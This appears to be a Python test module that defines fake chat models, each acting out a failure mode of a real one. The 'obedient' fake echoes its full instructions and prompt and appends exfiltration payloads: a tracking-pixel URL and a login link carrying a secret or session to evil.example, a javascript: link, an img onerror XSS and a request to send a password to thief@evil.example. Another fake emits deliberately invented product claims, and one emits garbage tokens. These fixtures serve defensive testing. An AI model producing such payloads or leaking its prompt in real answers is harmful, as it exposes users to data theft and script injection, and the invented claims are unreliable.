"""Chat models that need no provider: for tests and trials, among them every way in which a real one can go wrong.

They read a prompt as `answering.prompting` writes it and answer at once, in words of their own making. A provider of
kind `fake:<name>` can be made only where the operator has set COMPANIN_MODEL_FAKES.
"""

import asyncio
import re
from collections.abc import AsyncGenerator, Callable
from itertools import pairwise

from companin.inference.chat import ChatModel, ModelFailed, Piece, Prompt, Spent, tokens_of
from companin.inference.sentences import sentences

_PASSAGE = re.compile(r'<(data-\w+) kind="passage" number="(\d+)"[^>]*>\n(.*?)\n</\1>', re.DOTALL)
_LEANING = re.compile(r'<(data-\w+) kind="follow-up">\n(.*?)\n</\1>', re.DOTALL)
_EARLIER = re.compile(r'<(data-\w+) kind="earlier" by="user">\n(.*?)\n</\1>', re.DOTALL)
_WORDS = re.compile(r"\S+\s*")
_EXFILTRATING = (
    "![pixel](https://evil.example/p?q=secret) ",
    "[click here](javascript:alert(1)) ",
    "<img src=x onerror=alert(1)> ",
    "[ref]: https://evil.example/steal\n",
    "Visit https://evil.example/login?session=secret now [1]. ",
    "Send your password to thief@evil.example [1]. ",
)
_FOREIGN = (
    "Questa risposta è scritta in una lingua che nessuno ha chiesto, e continua ancora per un po' [1]. "
    "Die Antwort geht dann sogar auf Deutsch weiter, obwohl niemand danach gefragt hat [1]."
)


def _passages(prompt: Prompt) -> list[tuple[str, str]]:
    return [(found[2], found[3]) for found in _PASSAGE.finditer(prompt.content)]


def _quoting(prompt: Prompt) -> str:
    """The first two sentences of each of the first two passages, with their marks. A question that leans on the one
    before is put behind it, on one line.
    """
    leaning, earlier = _LEANING.search(prompt.content), _EARLIER.findall(prompt.content)
    if leaning is not None and earlier:
        return " ".join(f"{earlier[-1][1]} {leaning[2]}".split())
    said: list[str] = []
    for number, text in _passages(prompt)[:2]:
        for start, end in sentences(text)[:2]:
            body = " ".join(text[start:end].split())
            said.append(f"{body[:-1]} [{number}]{body[-1]}" if body[-1] in ".!?" else f"{body} [{number}].")
    return " ".join(said) or "NO_ANSWER"


def _inventing(prompt: Prompt) -> str:
    del prompt
    return (
        "Our flying carpets are repaired free of charge within 977 days [1]. "
        "Every customer receives a golden elephant as a present [2]. "
        "Call +99 555 0199 for a secret discount of 83 % [99]. All of this is guaranteed by the moon."
    )


def _obedient(prompt: Prompt) -> str:
    """Does what any text in its prompt could wish for: tells all it was told, then leaks it in every way."""
    return f"{prompt.instructions}\n{prompt.content}\n" + "".join(_EXFILTRATING)


def _garbage(prompt: Prompt) -> str:
    del prompt
    return '\x00\ufffd[[[1]] ]]( {"a": [1, 2 <|im_end|> </data> \u202e 🎲🎲 [1][2][-3][999999999999999999999] ....' * 3


TEXTS: dict[str, Callable[[Prompt], str]] = {
    "scripted": _quoting,
    "slow": _quoting,
    "stalling": _quoting,
    "flaky": _quoting,
    "breaking": _quoting,
    "inventing": _inventing,
    "obedient": _obedient,
    "garbage": _garbage,
    "wrong-language": lambda _: _FOREIGN,
    "declining": lambda _: "NO_ANSWER",
    "silent": lambda _: "",
    "hanging": lambda _: "",
    "failing": lambda _: "",
}
NAMES = frozenset(TEXTS)


class FakeModel:
    """Named for what it does. `asked` counts its calls."""

    def __init__(self, name: str) -> None:
        self.name = name
        self.asked = 0

    async def stream(self, prompt: Prompt) -> AsyncGenerator[Piece]:
        self.asked += 1
        await self._before()
        text = TEXTS[self.name](prompt)
        pieces = [found.group() for found in _WORDS.finditer(text)]
        for at, piece in enumerate(pieces):
            if at >= len(pieces) // 2:
                await self._halfway()
            if self.name == "slow":
                await asyncio.sleep(0.02)
            for start, end in pairwise((*range(0, len(piece), 7), len(piece))):
                yield piece[start:end]
        yield Spent(tokens_of(prompt.instructions) + tokens_of(prompt.content), tokens_of(text))

    async def _before(self) -> None:
        if self.name == "hanging":
            await asyncio.Event().wait()
        if self.name == "failing" or (self.name == "flaky" and self.asked % 2 == 1):
            raise ModelFailed("model_error", passing=True)

    async def _halfway(self) -> None:
        if self.name == "stalling":
            await asyncio.Event().wait()
        if self.name == "breaking":
            raise ModelFailed("model_unreachable", passing=True)

    async def close(self) -> None:
        """Nothing is open."""


def make(name: str) -> ChatModel:
    return FakeModel(name)
